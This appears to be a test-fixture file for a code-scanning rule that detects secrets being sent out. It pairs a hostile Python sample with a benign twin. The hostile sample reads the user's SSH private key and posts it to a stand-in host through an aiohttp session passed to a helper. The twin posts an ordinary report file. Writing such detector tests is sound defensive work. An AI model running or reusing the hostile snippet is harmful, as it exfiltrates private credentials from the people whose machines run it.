"""Samples and twins of `secrets_sent`: ways out that are handed about, and secrets that reach them in other shapes."""

from inspection.rules.sample import Sample, py

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a helper is given the session": py(
            "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, (Path.home() / '.ssh/id_rsa').read_bytes())\nasyncio.run(main())\n",
            line=4,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "a helper is given the session, and a report": {
            "app.py": "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, Path('report.xml').read_bytes())\nasyncio.run(main())\n"
        },
    },
}
